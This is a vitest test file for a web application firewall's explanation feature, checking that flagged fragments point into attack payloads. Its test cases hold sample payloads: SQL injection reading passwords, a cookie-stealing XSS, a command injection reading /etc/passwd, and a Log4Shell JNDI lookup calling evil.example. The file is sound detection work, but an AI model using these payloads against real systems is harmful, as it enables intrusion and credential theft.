// Explanations: the fragments of the worst part that drove a flagged score (core/explain.ts),
// as `wafscore score --explain` prints them and the filter's log line carries them.
import { beforeAll, describe, expect, it } from "vitest";
import { type Core, loadCore } from "../support/core";

let core: Core;
beforeAll(async () => {
  core = await loadCore();
  expect(core.modelError()).toBeNull();
});

// Each case: a payload inside ordinary context, and a substring of the payload's core that at
// least one fragment must overlap (explanations point at the attack, not at the padding).
const CASES: { where: string; text: string; payload: string }[] = [
  { where: "query", text: "page=2&q=shoes' UNION SELECT password FROM users--&sort=asc", payload: "UNION SELECT password FROM users" },
  { where: "body:json", text: '{"name":"Ann","bio":"hello <img src=x onerror=alert(document.cookie)> bye"}', payload: "onerror=alert(document.cookie)" },
  { where: "body:form", text: "host=example.com;cat /etc/passwd&submit=Go", payload: ";cat /etc/passwd" },
  { where: "header:User-Agent", text: "Mozilla/5.0 ${jndi:ldap://evil.example/a}", payload: "${jndi:ldap://evil.example/a}" },
];

const overlaps = (frag: string, payload: string) => {
  for (let n = Math.min(frag.length, payload.length); n >= 3; n--) {
    for (let i = 0; i + n <= frag.length; i++) if (payload.includes(frag.slice(i, i + n))) return true;
  }
  return false;
};

describe("explanations of flagged requests", () => {
  for (const c of CASES) {
    it(`point into the payload: ${c.where} ${c.text.slice(0, 40)}`, () => {
      const r = core.score(c.where, c.text);
      expect(r.score).toBeLessThanOrEqual(20);
      const frags = core.explain();
      expect(frags.length).toBeGreaterThan(0);
      expect(frags.length).toBeLessThanOrEqual(3);
      for (const f of frags) expect(r.worstText).toContain(f);
      expect(frags.some((f) => overlaps(f, c.payload)), `fragments ${JSON.stringify(frags)}`).toBe(true);
    });
  }

  it("are empty for a request with nothing scored", () => {
    core.scoreParts([]);
    expect(core.explain()).toEqual([]);
  });
});
